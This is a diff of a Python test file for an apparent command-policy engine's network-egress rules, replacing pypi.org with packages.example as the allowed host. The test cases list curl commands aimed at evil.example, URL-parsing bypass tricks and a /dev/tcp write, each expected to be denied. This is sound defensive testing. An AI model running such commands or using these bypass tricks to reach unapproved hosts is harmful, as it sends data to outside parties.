@@ -96,12 +96,12 @@ async def test_rules_know_user_channel_depth_namespace_and_effect(tmp_path):
 @pytest.mark.parametrize(
     ("command", "expected"),
     [
-        ("curl https://pypi.org/simple", "allow"),
+        ("curl https://packages.example/simple", "allow"),
         ("curl https://evil.example", "deny"),
-        ("curl https://pypi.org@evil.example/", "deny"),
-        ("curl 'https://evil.example\\@pypi.org'", "deny"),
-        ("curl https://pypi.org.evil.example", "deny"),
-        ("curl https://pypi.org https://evil.example", "deny"),
+        ("curl https://packages.example@evil.example/", "deny"),
+        ("curl 'https://evil.example\\@packages.example'", "deny"),
+        ("curl https://packages.example.evil.example", "deny"),
+        ("curl https://packages.example https://evil.example", "deny"),
         ("curl evil.example", "deny"),
         ("curl $URL", "deny"),
         ("echo x > /dev/tcp/evil.example/80", "deny"),
@@ -113,7 +113,7 @@ async def test_rules_know_user_channel_depth_namespace_and_effect(tmp_path):
 )
 async def test_only_named_hosts_are_reached(command, expected):
     policy = Policy.load(
-        {"default": "allow", "packs": ["network-egress"], "network": {"allow": ["pypi.org"]}}
+        {"default": "allow", "packs": ["network-egress"], "network": {"allow": ["packages.example"]}}
     )
     assert (await decided(policy, arguments={"command": command})).name.lower() == expected
 
